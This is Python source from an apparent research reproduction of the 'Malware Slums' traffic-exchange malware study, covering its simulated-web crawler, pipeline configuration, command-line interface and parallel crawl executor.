        result = self.client.fetch(
            url, referrer=self.surf_referrer, country=self.country, page_ref=page_ref
        )
        self._log_chain(result, kind, step_index, timestamp)
        self.dataset.har_log(self.exchange_name).extend(result.entries)
        if self.observer is not None:
            self._visits_counter.value += 1.0
            if result.hops:
                self._redirected_counter.value += 1.0

        if kind == RecordKind.REGULAR and result.response.ok:
            self._fetch_subresources(result, kind, step_index, timestamp, page_ref)
        return result

    # ------------------------------------------------------------------
    def _log_chain(self, result: FetchResult, kind: str, step_index: int,
                   timestamp: float) -> None:
        """Log the requested URL and every redirect hop it traversed."""
        chain_urls = [result.request_url] + [to for _frm, to in result.hops]
        for position, chain_url in enumerate(chain_urls):
            remaining = len(chain_urls) - 1 - position
            self.dataset.add_record(UrlRecord(
                url=chain_url,
                exchange=self.exchange_name,
                kind=kind,
                step_index=step_index,
                timestamp=timestamp,
                role="page" if position == 0 else "hop",
                final_url=result.final_url,
                redirect_count=remaining,
            ))
            self.dataset.cache_content(chain_url, CachedContent(
                content=result.response.body,
                content_type=result.response.content_type,
                final_url=result.final_url,
                redirect_count=remaining,
                status=result.response.status,
            ))

    def _fetch_subresources(self, page_result: FetchResult, kind: str,
                            step_index: int, timestamp: float, page_ref: str) -> None:
        final = Url.try_parse(page_result.final_url)
        if final is None:
            return
        site = self.registry.site(final.host)
        if site is None:
            return
        page, _resource = site.lookup(final.path)
        if page is None:
            return
        for sub_url in page.subresource_urls:
            sub_result = self.client.fetch(
                sub_url, referrer=page_result.final_url,
                country=self.country, page_ref=page_ref,
            )
            self._log_chain(sub_result, kind, step_index, timestamp)
            self.dataset.har_log(self.exchange_name).extend(sub_result.entries)
            if self.observer is not None:
                self._subresource_counter.value += 1.0
