"""The measurement crawler.

Browser sessions with HAR capture, auto-/manual-surf crawlers, the crawl
dataset, and the end-to-end :class:`CrawlPipeline` (crawl every exchange
then scan every distinct URL).
"""

from .crawlers import CrawlStats, ExchangeCrawler
from .options import PipelineOptions
from .pipeline import CrawlPipeline, ScanOutcome
from .session import BrowserSession
from .storage import CachedContent, CrawlDataset, RecordKind, UrlRecord

__all__ = [
    "BrowserSession",
    "CachedContent",
    "CrawlDataset",
    "CrawlPipeline",
    "CrawlStats",
    "ExchangeCrawler",
    "PipelineOptions",
    "RecordKind",
    "ScanOutcome",
    "UrlRecord",
]
