"""Pipeline configuration as one value object.

``CrawlPipeline.__init__`` had grown eleven keyword arguments, each
threaded separately through :class:`~repro.core.config.StudyConfig`,
the CLI, and every test harness.  :class:`PipelineOptions` collapses
them into a single dataclass that all of those share; the old kwargs
keep working through a deprecation shim
(:func:`repro.crawler.pipeline.legacy_pipeline_kwargs`) during the
migration window.
"""

from __future__ import annotations

from dataclasses import dataclass, fields
from typing import Optional

from ..obs.observer import RunObserver
from ..obs.profile import MemoryLedger

__all__ = ["PipelineOptions"]


@dataclass
class PipelineOptions:
    """Everything configurable about a :class:`CrawlPipeline` run.

    One value object instead of a kwargs sprawl: build it once (or take
    it from :meth:`StudyConfig.pipeline_options`), tweak fields, pass it
    to ``CrawlPipeline(web, options)``.
    """

    #: pipeline RNG seed (exchange construction, listing weights, crawls)
    seed: int = 77
    #: submit the crawler's saved page files to the scanners (the
    #: footnote-1 cloaking mitigation); False = the cloaking ablation
    submit_files: bool = True
    #: opt-in telemetry (metrics/traces/events/profiling); None keeps
    #: every hook a skipped attribute test
    observer: Optional[RunObserver] = None
    #: run the repro.staticjs pass before sandboxing and skip provably
    #: side-effect-free pages
    static_prefilter: bool = True
    #: worker count for BOTH phases (crawl shards by exchange, scan by
    #: domain); None reads $REPRO_WORKERS, 1 keeps the serial loops
    workers: Optional[int] = None
    #: injectable scan-phase executor (defaults from ``workers``)
    scan_executor: Optional[object] = None
    #: injectable crawl-phase executor (defaults from ``workers``)
    crawl_executor: Optional[object] = None
    #: record a per-URL VerdictProvenance decision chain during the scan
    record_provenance: bool = False
    #: JSON-lines sink for the flight recorder (implies record_provenance)
    provenance_path: Optional[str] = None
    #: optional per-phase tracemalloc accounting
    memory_ledger: Optional[MemoryLedger] = None
    #: JS sandbox execution backend: "ast" (tree-walking reference),
    #: "vm" (opcode-compiled dispatch loop), or None to read
    #: $REPRO_JS_BACKEND (defaulting to "ast"); both backends produce
    #: bit-identical verdicts and reports
    js_backend: Optional[str] = None
    #: JSON-lines live-status sink (repro.obs.live) that `repro watch`
    #: tails; setting it attaches streaming telemetry to the run (an
    #: internal observer is created if none was passed) without changing
    #: any pipeline output
    status_path: Optional[str] = None
    #: in-flight health checks (a repro.obs.live.Watchdog); None with a
    #: status_path set still attaches the default watchdog
    watchdog: Optional[object] = None

    @classmethod
    def field_names(cls) -> "tuple[str, ...]":
        return tuple(f.name for f in fields(cls))
