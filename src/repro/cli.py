"""Command-line interface.

Usage (after install)::

    python -m repro run --scale 0.02 --seed 2016          # full study report
    python -m repro run --table 1                         # one table only
    python -m repro vet --per-family 20                   # tool vetting
    python -m repro har --exchange 10KHits -o out.har     # export a HAR log
    python -m repro records -o records.json               # export URL records
    python -m repro explain http://...                    # verdict provenance
    python -m repro obs-diff base.json cand.json          # regression gate
    python -m repro profile --budget benchmarks/perf_budget.json
    python -m repro watch status.jsonl                    # live run progress
"""

from __future__ import annotations

import argparse
import dataclasses
import random
import sys
from typing import List, Optional

from . import MalwareSlumsStudy, StudyConfig
from .core.reporting import (
    render_figure2,
    render_figure3_summary,
    render_figure5,
    render_figure6,
    render_figure7,
    render_full_report,
    render_table1,
    render_table2,
    render_table3,
    render_table4,
)

__all__ = ["main", "build_parser"]


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="Reproduce 'Malware Slums: Measurement and Analysis of "
                    "Malware on Traffic Exchanges' (DSN 2016).",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    run = sub.add_parser("run", help="run the study and print tables/figures")
    run.add_argument("--scale", type=float, default=0.02,
                     help="crawl volume relative to the paper's 1M URLs (default 0.02)")
    run.add_argument("--seed", type=int, default=2016)
    run.add_argument("--table", type=int, choices=(1, 2, 3, 4),
                     help="print only this table")
    run.add_argument("--figure", type=int, choices=(2, 3, 5, 6, 7),
                     help="print only this figure")
    run.add_argument("--no-file-submission", action="store_true",
                     help="disable the cloaking mitigation (URL-only scanning)")
    run.add_argument("--workers", type=int, default=None, metavar="N",
                     help="worker count for the crawl and scan phases "
                          "(repro.crawlexec + repro.scanexec; default 1 or "
                          "$REPRO_WORKERS; results are identical at any "
                          "width)")
    run.add_argument("--js-backend", choices=("ast", "vm"), default=None,
                     help="JS sandbox backend: 'ast' (tree-walking "
                          "reference) or 'vm' (opcode dispatch loop); "
                          "default $REPRO_JS_BACKEND or 'ast'; results "
                          "are identical either way")
    run.add_argument("--markdown", action="store_true",
                     help="emit the report as Markdown")

    vet = sub.add_parser("vet", help="run the Section III-B tool vetting")
    vet.add_argument("--per-family", type=int, default=10)
    vet.add_argument("--seed", type=int, default=7)

    har = sub.add_parser("har", help="export an exchange's HAR capture")
    har.add_argument("--exchange", required=True)
    har.add_argument("--scale", type=float, default=0.01)
    har.add_argument("--seed", type=int, default=2016)
    har.add_argument("-o", "--output", required=True)

    records = sub.add_parser("records", help="export crawl records as JSON")
    records.add_argument("--scale", type=float, default=0.01)
    records.add_argument("--seed", type=int, default=2016)
    records.add_argument("-o", "--output", required=True)

    compare = sub.add_parser("compare", help="compare a run against the paper's values")
    compare.add_argument("--scale", type=float, default=0.02)
    compare.add_argument("--seed", type=int, default=2016)

    export = sub.add_parser("export", help="run the study and export CSVs + results JSON")
    export.add_argument("--scale", type=float, default=0.02)
    export.add_argument("--seed", type=int, default=2016)
    export.add_argument("-o", "--output-dir", required=True)

    feed = sub.add_parser("feed", help="build a threat feed from a crawl")
    feed.add_argument("--scale", type=float, default=0.02)
    feed.add_argument("--seed", type=int, default=2016)
    feed.add_argument("-o", "--output", required=True)

    obs = sub.add_parser(
        "obs-report",
        help="run an observed crawl+scan and emit the run-telemetry report",
    )
    obs.add_argument("--scale", type=float, default=0.02)
    obs.add_argument("--seed", type=int, default=2016)
    obs.add_argument("--workers", type=int, default=None, metavar="N",
                     help="crawl+scan worker count (adds the executor "
                          "report sections when > 1)")
    obs.add_argument("--js-backend", choices=("ast", "vm"), default=None,
                     help="JS sandbox backend (the report is bit-identical "
                          "either way)")
    obs.add_argument("-o", "--output",
                     help="write the JSON report here (schema: repro.obs.report)")
    obs.add_argument("--markdown", action="store_true",
                     help="print the Markdown rendering instead of JSON")
    obs.add_argument("--events", metavar="PATH",
                     help="also write the structured event log as JSON-lines")
    obs.add_argument("--trace-out", metavar="PATH",
                     help="also write spans as Chrome-trace-format JSON "
                          "(load in chrome://tracing or ui.perfetto.dev)")
    obs.add_argument("--provenance", metavar="PATH",
                     help="also write per-URL verdict provenance as JSON-lines")
    obs.add_argument("--status-out", metavar="PATH",
                     help="stream live JSON-lines status to this file during "
                          "the run (`repro watch PATH` tails it); the report "
                          "is bit-identical with or without the sink")
    obs.add_argument("--status", metavar="PATH",
                     help="fold an existing status file into the report as a "
                          "'status' section (the `repro watch --json` schema)")
    obs.add_argument("--openmetrics-out", metavar="PATH",
                     help="also write the final metrics registry in "
                          "OpenMetrics/Prometheus text format")
    obs.add_argument("--watchdog-baseline", metavar="PATH",
                     help="arm the live watchdog's verdict-drift check "
                          "against this committed baseline report "
                          "(benchmarks/baseline_report.json)")

    watch = sub.add_parser(
        "watch",
        help="tail a run's live status file: per-phase/per-shard progress, "
             "window rates, ETA, and open health findings",
    )
    watch.add_argument("status_file",
                       help="the JSON-lines status sink a running pipeline "
                            "writes (PipelineOptions(status_path=...) or "
                            "`repro obs-report --status-out`)")
    watch.add_argument("--once", action="store_true",
                       help="render one snapshot and exit instead of "
                            "following the file")
    watch.add_argument("--json", dest="as_json", action="store_true",
                       help="print the snapshot as JSON (for scripting)")
    watch.add_argument("--interval", type=float, default=1.0, metavar="SECONDS",
                       help="re-read cadence in follow mode (default 1.0)")

    profile = sub.add_parser(
        "profile",
        help="run a profiled crawl+scan: work ledger, memory ledger, "
             "flamegraph exports, and the perf-budget gate",
    )
    profile.add_argument("--scale", type=float, default=0.02)
    profile.add_argument("--seed", type=int, default=2016)
    profile.add_argument("--workers", type=int, default=None, metavar="N",
                         help="crawl+scan worker count (the work ledger is "
                              "bit-identical at any width)")
    profile.add_argument("--js-backend", choices=("ast", "vm"), default=None,
                         help="JS sandbox backend; the vm backend adds a "
                              "js.vm.ops work kind and simulates fewer steps")
    profile.add_argument("--top", type=int, default=10, metavar="N",
                         help="hot paths to print (default 10)")
    profile.add_argument("--budget", metavar="PATH",
                         help="check totals against this perf-budget JSON; "
                              "exit 1 when any kind regresses past tolerance")
    profile.add_argument("--write-budget", metavar="PATH",
                         help="write a fresh budget JSON from this run's "
                              "totals (the budget-update procedure)")
    profile.add_argument("--collapsed-out", metavar="PATH",
                         help="write collapsed-stack lines (flamegraph.pl "
                              "or inferno input)")
    profile.add_argument("--speedscope-out", metavar="PATH",
                         help="write a speedscope JSON profile "
                              "(open at speedscope.app)")
    profile.add_argument("--bench-out", metavar="PATH",
                         help="write a BENCH JSON artifact (work totals + "
                              "memory ledger + run parameters)")
    profile.add_argument("--json", action="store_true",
                         help="print the full ledger + memory JSON instead "
                              "of the hot-path table")

    explain = sub.add_parser(
        "explain",
        help="print the full verdict decision chain for one URL",
    )
    explain.add_argument("url", help="the URL to explain")
    explain.add_argument("--scale", type=float, default=0.02)
    explain.add_argument("--seed", type=int, default=2016)
    explain.add_argument("--workers", type=int, default=None, metavar="N",
                         help="crawl+scan worker count (the chain is identical "
                              "at any width)")
    explain.add_argument("--from", dest="from_file", metavar="PATH",
                         help="read a stored provenance JSON-lines file "
                              "instead of running a crawl")
    explain.add_argument("--json", action="store_true",
                         help="print the raw provenance record as JSON")
    explain.add_argument("--all-engines", action="store_true",
                         help="list clean engines individually instead of "
                              "folding them into a summary line")

    diff = sub.add_parser(
        "obs-diff",
        help="structurally diff two run-report JSONs; exit 1 on regression",
    )
    diff.add_argument("baseline", help="baseline run-report JSON path")
    diff.add_argument("candidate", help="candidate run-report JSON path")
    diff.add_argument("--rel-tol", type=float, default=0.0, metavar="FRAC",
                      help="relative tolerance for numeric drift "
                           "(e.g. 0.05 = 5%%; default 0: exact)")
    diff.add_argument("--abs-tol", type=float, default=1e-9, metavar="EPS",
                      help="absolute tolerance floor for near-zero values")
    diff.add_argument("--ignore", action="append", default=None, metavar="PATH",
                      help="dotted path prefix to skip (repeatable; default "
                           "ignores events.tail and the raw metrics snapshot)")

    static = sub.add_parser(
        "static-scan",
        help="statically analyze a script or page without executing it",
    )
    static.add_argument("target",
                        help="a .js/.html file path, or a URL into the seeded simweb")
    static.add_argument("--scale", type=float, default=0.01,
                        help="simweb scale when target is a URL (default 0.01)")
    static.add_argument("--seed", type=int, default=2016,
                        help="simweb seed when target is a URL (default 2016)")
    static.add_argument("--markdown", action="store_true",
                        help="print Markdown instead of JSON")
    static.add_argument("--absint", action="store_true",
                        help="include each script's abstract-interpretation "
                             "effect summary in the output")
    static.add_argument("--explain-skips", action="store_true",
                        help="print the page-level sandbox-skip decision and "
                             "every blocking reason")

    return parser


def _cmd_run(args: argparse.Namespace) -> int:
    study = MalwareSlumsStudy(StudyConfig(
        seed=args.seed, scale=args.scale,
        submit_files=not args.no_file_submission,
        workers=args.workers,
        js_backend=args.js_backend,
    ))
    results = study.run()
    if args.table == 1:
        print(render_table1(results.table1))
    elif args.table == 2:
        print(render_table2(results.table2))
    elif args.table == 3:
        print(render_table3(results.table3))
    elif args.table == 4:
        print(render_table4(results.table4))
    elif args.figure == 2:
        print(render_figure2(results.figure2))
    elif args.figure == 3:
        print(render_figure3_summary(results.figure3))
    elif args.figure == 5:
        print(render_figure5(results.figure5))
    elif args.figure == 6:
        print(render_figure6(results.figure6))
    elif args.figure == 7:
        print(render_figure7(results.figure7))
    elif args.markdown:
        from .core import render_markdown_report

        print(render_markdown_report(results))
    else:
        print(render_full_report(results))
    return 0


def _cmd_vet(args: argparse.Namespace) -> int:
    from .detection import QutteraSim, VirusTotalSim, all_rejected_tools, build_gold_standard, vet_tools

    samples = build_gold_standard(random.Random(args.seed), per_family=args.per_family)
    result = vet_tools([VirusTotalSim(), QutteraSim()] + all_rejected_tools(), samples)
    for name, accuracy in result.table_rows():
        print("%-14s %6.1f%%" % (name, 100 * accuracy))
    print("accepted: %s" % ", ".join(result.accepted_tools()))
    return 0


def _run_crawl(seed: int, scale: float) -> MalwareSlumsStudy:
    study = MalwareSlumsStudy(StudyConfig(seed=seed, scale=scale))
    study.crawl_and_scan()
    return study


def _cmd_har(args: argparse.Namespace) -> int:
    study = _run_crawl(args.seed, args.scale)
    log = study.pipeline.dataset.har_logs.get(args.exchange)
    if log is None:
        print("unknown exchange %r; choose from: %s"
              % (args.exchange, ", ".join(study.pipeline.dataset.har_logs)), file=sys.stderr)
        return 2
    with open(args.output, "w", encoding="utf-8") as handle:
        handle.write(log.to_json())
    print("wrote %d HAR entries to %s" % (len(log), args.output))
    return 0


def _cmd_records(args: argparse.Namespace) -> int:
    study = _run_crawl(args.seed, args.scale)
    with open(args.output, "w", encoding="utf-8") as handle:
        handle.write(study.pipeline.dataset.records_to_json())
    print("wrote %d records to %s" % (len(study.pipeline.dataset), args.output))
    return 0


def _cmd_compare(args: argparse.Namespace) -> int:
    from .core import compare_to_paper

    study = MalwareSlumsStudy(StudyConfig(seed=args.seed, scale=args.scale))
    report = compare_to_paper(study.run())
    print(report.render())
    return 0 if report.shapes_hold else 1


def _cmd_export(args: argparse.Namespace) -> int:
    import os

    from .core import export_csvs, save_results

    study = MalwareSlumsStudy(StudyConfig(seed=args.seed, scale=args.scale))
    results = study.run()
    paths = export_csvs(results, args.output_dir)
    json_path = os.path.join(args.output_dir, "results.json")
    save_results(results, json_path)
    paths.append(json_path)
    for path in paths:
        print("wrote %s" % path)
    return 0


def _cmd_obs_report(args: argparse.Namespace) -> int:
    import json

    from .crawler import CrawlPipeline, PipelineOptions
    from .obs import RunObserver, build_run_report, render_run_report_markdown

    study = MalwareSlumsStudy(StudyConfig(seed=args.seed, scale=args.scale))
    web = study.generate_web()
    observer = RunObserver()
    watchdog = None
    if args.watchdog_baseline:
        from .obs import Watchdog

        watchdog = Watchdog.from_baseline_report(args.watchdog_baseline)
    pipeline = CrawlPipeline(web, PipelineOptions(
        seed=args.seed + 61, observer=observer,
        workers=args.workers, record_provenance=True,
        js_backend=args.js_backend,
        status_path=args.status_out, watchdog=watchdog))
    outcome = pipeline.run()
    report = build_run_report(pipeline, outcome)
    if args.status:
        from .obs import attach_status_section

        attach_status_section(report, args.status)

    if args.status_out:
        print("streamed live status to %s (tail with `repro watch %s`)"
              % (args.status_out, args.status_out))
    if args.openmetrics_out:
        from .obs import write_openmetrics

        count = write_openmetrics(args.openmetrics_out, observer.metrics)
        print("wrote %d OpenMetrics lines to %s"
              % (count, args.openmetrics_out))
    if args.output:
        with open(args.output, "w", encoding="utf-8") as handle:
            json.dump(report, handle, indent=2, sort_keys=True)
        print("wrote telemetry report to %s" % args.output)
    if args.events:
        with open(args.events, "w", encoding="utf-8") as handle:
            handle.write(observer.events.to_jsonl())
        print("wrote %d events to %s" % (len(observer.events), args.events))
    if args.trace_out:
        from .obs import write_chrome_trace

        count = write_chrome_trace(args.trace_out, observer,
                                   execution=pipeline.last_scan_execution)
        print("wrote %d trace events to %s" % (count, args.trace_out))
    if args.provenance and outcome.provenance is not None:
        with open(args.provenance, "w", encoding="utf-8") as handle:
            handle.write(outcome.provenance.to_jsonl())
        print("wrote %d provenance records to %s"
              % (len(outcome.provenance), args.provenance))
    if args.markdown:
        print(render_run_report_markdown(report))
    elif not args.output:
        print(json.dumps(report, indent=2, sort_keys=True))
    return 0


def _cmd_watch(args: argparse.Namespace) -> int:
    import json

    from .obs import load_status_snapshot, render_status_text

    def emit() -> dict:
        snapshot = load_status_snapshot(args.status_file)
        if args.as_json:
            print(json.dumps(snapshot, indent=2, sort_keys=True))
        else:
            print(render_status_text(snapshot))
        return snapshot

    try:
        snapshot = emit()
    except OSError as error:
        print("cannot read status file: %s" % error, file=sys.stderr)
        return 2
    if args.once:
        return 0
    # follow mode: the sink flushes each record, so a plain re-read loop
    # (no inotify dependency) tracks an in-flight run; a torn final line
    # is skipped by the parser and picked up whole on the next pass
    import time

    while snapshot.get("run", {}).get("state") != "finished":
        time.sleep(max(0.1, args.interval))
        print()
        snapshot = emit()
    return 0


def _cmd_profile(args: argparse.Namespace) -> int:
    import json

    from .crawler import CrawlPipeline, PipelineOptions
    from .obs import (
        MemoryLedger,
        RunObserver,
        build_budget,
        check_budget,
        render_budget_table,
        render_work_table,
    )

    study = MalwareSlumsStudy(StudyConfig(seed=args.seed, scale=args.scale))
    web = study.generate_web()
    observer = RunObserver(profile=True)
    memory = MemoryLedger()
    with memory:
        pipeline = CrawlPipeline(web, PipelineOptions(
            seed=args.seed + 61, observer=observer,
            workers=args.workers, memory_ledger=memory,
            js_backend=args.js_backend))
        pipeline.run()
    assert observer.profiler is not None
    ledger = observer.profiler.ledger
    totals = ledger.totals_by_kind()
    meta = {"seed": args.seed, "scale": args.scale,
            "workers": pipeline.workers,
            "js_backend": pipeline.js_backend}

    if args.json:
        print(json.dumps({
            "meta": meta,
            "work": {"totals": totals, "cells": ledger.to_dict()},
            "memory": memory.to_dict(),
        }, indent=2, sort_keys=True))
    else:
        print(render_work_table(ledger, top=args.top))
        print()
        print("Memory ledger")
        for name, phase in sorted(memory.phases.items()):
            print("  %-10s allocated %8.2f MiB   peak %8.2f MiB"
                  % (name, phase.allocated_bytes / 2**20,
                     phase.peak_bytes / 2**20))
        for name, count in sorted(memory.objects.items()):
            print("  %-30s %10d objects" % (name, count))

    if args.collapsed_out:
        with open(args.collapsed_out, "w", encoding="utf-8") as handle:
            handle.write(ledger.to_collapsed() + "\n")
        print("wrote collapsed stacks to %s" % args.collapsed_out)
    if args.speedscope_out:
        with open(args.speedscope_out, "w", encoding="utf-8") as handle:
            json.dump(ledger.to_speedscope(), handle, indent=2, sort_keys=True)
        print("wrote speedscope profile to %s" % args.speedscope_out)
    if args.bench_out:
        with open(args.bench_out, "w", encoding="utf-8") as handle:
            json.dump({
                "meta": meta,
                "work_totals": totals,
                "hot_paths": [
                    {"path": ";".join(stack), "kind": kind, "units": units}
                    for stack, kind, units in ledger.hot_paths(args.top)
                ],
                "memory": memory.to_dict(),
            }, handle, indent=2, sort_keys=True)
        print("wrote bench artifact to %s" % args.bench_out)
    if args.write_budget:
        with open(args.write_budget, "w", encoding="utf-8") as handle:
            json.dump(build_budget(totals, meta=meta), handle,
                      indent=2, sort_keys=True)
            handle.write("\n")
        print("wrote perf budget to %s" % args.write_budget)

    if args.budget:
        with open(args.budget, "r", encoding="utf-8") as handle:
            budget = json.load(handle)
        result = check_budget(totals, budget)
        print()
        print(render_budget_table(result))
        return 0 if result.ok else 1
    return 0


def _cmd_explain(args: argparse.Namespace) -> int:
    import json

    from .obs import ProvenanceStore, render_provenance

    if args.from_file:
        with open(args.from_file, "r", encoding="utf-8") as handle:
            store = ProvenanceStore.from_jsonl(handle.read())
    else:
        from .crawler import CrawlPipeline, PipelineOptions

        study = MalwareSlumsStudy(StudyConfig(seed=args.seed, scale=args.scale))
        pipeline = CrawlPipeline(study.generate_web(), PipelineOptions(
            seed=args.seed + 61,
            workers=args.workers, record_provenance=True))
        outcome = pipeline.run()
        store = outcome.provenance
        assert store is not None

    record = store.get(args.url)
    if record is None:
        print("no verdict recorded for %r" % args.url, file=sys.stderr)
        sample = list(store.urls())[:5]
        if sample:
            print("known URLs include:\n  %s" % "\n  ".join(sample),
                  file=sys.stderr)
        return 2
    if args.json:
        print(record.to_json())
    else:
        print(render_provenance(record, include_clean_engines=args.all_engines))
    return 0


def _cmd_obs_diff(args: argparse.Namespace) -> int:
    import json

    from .obs import DiffConfig, diff_reports

    with open(args.baseline, "r", encoding="utf-8") as handle:
        baseline = json.load(handle)
    with open(args.candidate, "r", encoding="utf-8") as handle:
        candidate = json.load(handle)
    config = (DiffConfig(rel_tol=args.rel_tol, abs_tol=args.abs_tol)
              if args.ignore is None else
              DiffConfig(rel_tol=args.rel_tol, abs_tol=args.abs_tol,
                         ignore=tuple(args.ignore)))
    result = diff_reports(baseline, candidate, config)
    print(result.render_text())
    return 0 if result.ok else 1


def _static_scan_sources(args: argparse.Namespace) -> List[str]:
    """Script sources for the static-scan target (file path or URL)."""
    import os

    from .htmlparse import parse as parse_html
    from .htmlparse import select

    def scripts_from_html(html: str) -> List[str]:
        sources = []
        for script in select(parse_html(html), "script"):
            if not script.get("src") and script.text_content().strip():
                sources.append(script.text_content())
        return sources

    target = args.target
    if os.path.exists(target):
        with open(target, "r", encoding="utf-8", errors="replace") as handle:
            text = handle.read()
        if target.endswith((".htm", ".html")) or text.lstrip().startswith("<"):
            return scripts_from_html(text)
        return [text]

    if "://" in target:
        from .httpsim import SimHttpClient, SimHttpServer

        study = MalwareSlumsStudy(StudyConfig(seed=args.seed, scale=args.scale))
        web = study.generate_web()
        result = SimHttpClient(SimHttpServer(web.registry)).fetch(target)
        body = result.response.body.decode("utf-8", errors="replace")
        if result.response.content_type.startswith(
                ("application/javascript", "text/javascript")):
            return [body]
        return scripts_from_html(body)

    raise FileNotFoundError(target)


def _cmd_static_scan(args: argparse.Namespace) -> int:
    import json

    from .staticjs import analyze_script, render_report_markdown

    try:
        sources = _static_scan_sources(args)
    except FileNotFoundError:
        print("target %r is neither a file nor a URL" % args.target, file=sys.stderr)
        return 2

    if not sources:
        print("no inline scripts found in %s" % args.target, file=sys.stderr)
        return 1

    reports = [analyze_script(source) for source in sources]
    page_decision = None
    if args.explain_skips:
        from .detection.heuristics import _page_skip_decision
        from .staticjs import VERDICT_BENIGN

        all_benign = all(r.verdict == VERDICT_BENIGN for r in reports)
        absint_skip, blockers = _page_skip_decision(reports)
        page_decision = {
            "all_benign": all_benign,
            "absint_skip": absint_skip,
            "sandbox_skip": all_benign or absint_skip,
            "blockers": blockers,
        }
    if args.markdown:
        for index, report in enumerate(reports):
            title = "Static scan: %s (script %d/%d)" % (
                args.target, index + 1, len(reports))
            if not args.absint:
                report = dataclasses.replace(report, effects=None)
            print(render_report_markdown(report, title=title))
        if page_decision is not None:
            print("## Sandbox skip decision\n")
            if page_decision["sandbox_skip"]:
                how = ("all scripts benign" if page_decision["all_benign"]
                       else "complete abstract effect summaries")
                print("Page may **skip** dynamic execution (%s)." % how)
            else:
                print("Page must **execute**; blocking conditions:\n")
                for blocker in page_decision["blockers"]:
                    print("- `%s`" % blocker)
            print()
    else:
        scripts = []
        for report in reports:
            entry = report.to_dict()
            if not args.absint:
                entry.pop("effects", None)
            scripts.append(entry)
        payload = {"target": args.target, "scripts": scripts}
        if page_decision is not None:
            payload["page"] = page_decision
        print(json.dumps(payload, indent=2, sort_keys=True))
    return 1 if any(r.max_severity == "high" for r in reports) else 0


def _cmd_feed(args: argparse.Namespace) -> int:
    from .countermeasures import build_threat_feed

    study = _run_crawl(args.seed, args.scale)
    feed = build_threat_feed(study.pipeline.dataset, study.outcome)
    with open(args.output, "w", encoding="utf-8") as handle:
        handle.write(feed.to_text())
    print("wrote %d domains to %s" % (len(feed), args.output))
    return 0


def main(argv: Optional[List[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    handler = {
        "run": _cmd_run,
        "vet": _cmd_vet,
        "har": _cmd_har,
        "records": _cmd_records,
        "compare": _cmd_compare,
        "export": _cmd_export,
        "feed": _cmd_feed,
        "obs-report": _cmd_obs_report,
        "watch": _cmd_watch,
        "profile": _cmd_profile,
        "explain": _cmd_explain,
        "obs-diff": _cmd_obs_diff,
        "static-scan": _cmd_static_scan,
    }[args.command]
    return handler(args)


if __name__ == "__main__":  # pragma: no cover - exercised via __main__
    raise SystemExit(main())
