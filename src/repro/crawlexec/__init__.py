"""The parallel sharded crawl executor.

The paper's measurement ran for months because crawl throughput — one
browser surfing nine exchanges back to back — is the binding
constraint, not scan throughput.  Each exchange's credit economy is
independent state (its own RNG stream, member roster, campaign
schedule, and surf clock), which makes the exchange the natural shard
boundary: :class:`ParallelCrawlExecutor` runs each exchange's surf
session on its own worker with a shard-confined HTTP client, server
front-end, and dataset, then merges everything back in original
exchange order so ``crawl_stats``, the :class:`~repro.crawler.storage.CrawlDataset`,
the HAR logs, and the obs report are bit-identical to the serial loop
at any worker count.

Shared mutable state the merge reconciles:

* **rotating redirectors** — per-(host, path) round-robin counters on
  the simulated server; shards count independently and the merge sums
  them.  If two shards ever touch the same rotation key the round-robin
  interleaving would differ from serial, so the executor detects the
  overlap and transparently re-runs the whole crawl serially (the
  ``crawlexec.fallback.serial`` counter records it),
* **shortener accounting** — shard servers resolve slugs *without*
  mutating the shared directory and log each resolution; the merge
  replays the log through the real service in exchange order, which is
  exactly the serial order (the serial loop finishes one exchange
  before starting the next),
* **the shared clock** — shard clients run on private clocks from
  zero; the merge *replays* each shard's request ticks on the shared
  clock (one ``REQUEST_SECONDS`` advance per HAR entry, restamping
  ``started``), reproducing the serial float-accumulation sequence bit
  for bit — offset-shifting shard-local sums would differ in the last
  ulp.
"""

from .executor import (
    CrawlExecution,
    CrawlShardStats,
    CrawlSpec,
    ParallelCrawlExecutor,
    SerialCrawlExecutor,
)

__all__ = [
    "CrawlExecution",
    "CrawlShardStats",
    "CrawlSpec",
    "ParallelCrawlExecutor",
    "SerialCrawlExecutor",
]
