"""Exchange-sharded crawl execution on the :class:`PhaseExecutor` template.

See the package docstring for the sharding/merge contract.  The
executor is deliberately conservative: anything that could make the
parallel interleaving observable — a rotation key touched by two
exchanges, a non-simulated clock — triggers a bit-exact serial re-run
instead of an approximate merge.
"""

from __future__ import annotations

import copy
import random
from dataclasses import dataclass, field, replace
from typing import Dict, List, Optional, Sequence, Tuple

from ..crawler.crawlers import CrawlStats, ExchangeCrawler
from ..crawler.session import BrowserSession
from ..crawler.storage import CrawlDataset
from ..httpsim.client import SimHttpClient
from ..httpsim.message import HttpRequest, HttpResponse
from ..httpsim.server import SimHttpServer
from ..obs.clock import SimClock
from ..phasexec.executor import InlineExecutor, PhaseExecutor
from ..phasexec.recording import RecordingObserver
from ..simweb.url import Url

__all__ = [
    "CrawlExecution",
    "CrawlShardStats",
    "CrawlSpec",
    "ParallelCrawlExecutor",
    "SerialCrawlExecutor",
]


@dataclass
class CrawlSpec:
    """One exchange's surf session, fully determined before any crawling.

    The pipeline pre-draws ``seed`` from its own RNG in exchange order,
    so the serial loop and the executor consume identical draw
    sequences — the per-exchange crawler RNG streams match bit for bit.
    """

    index: int
    name: str
    exchange: object
    host: str
    steps: int
    seed: int


@dataclass
class CrawlShardStats:
    """Post-run accounting for one exchange shard."""

    index: int
    exchange: str
    steps: int
    #: simulated crawl-seconds (0.05 s per request on the shard clock)
    busy_seconds: float
    requests: int = 0
    #: worker slot and start offset under deterministic list scheduling
    worker: int = 0
    start_seconds: float = 0.0


@dataclass
class CrawlExecution:
    """Everything one crawl-executor run produced."""

    stats: "Dict[str, CrawlStats]"
    workers: int
    shard_stats: List[CrawlShardStats] = field(default_factory=list)
    #: simulated cost of surfing every exchange back to back
    serial_seconds: float = 0.0
    #: simulated makespan with exchanges overlapped across ``workers``
    parallel_seconds: float = 0.0
    #: True when a shared-state overlap forced the bit-exact serial re-run
    fallback_serial: bool = False

    @property
    def speedup(self) -> float:
        return self.serial_seconds / self.parallel_seconds if self.parallel_seconds else 1.0

    @property
    def utilisation(self) -> float:
        """Mean worker busy-fraction over the parallel phase."""
        if not self.parallel_seconds or not self.workers:
            return 1.0
        busy = sum(stats.busy_seconds for stats in self.shard_stats)
        return min(1.0, busy / (self.workers * self.parallel_seconds))


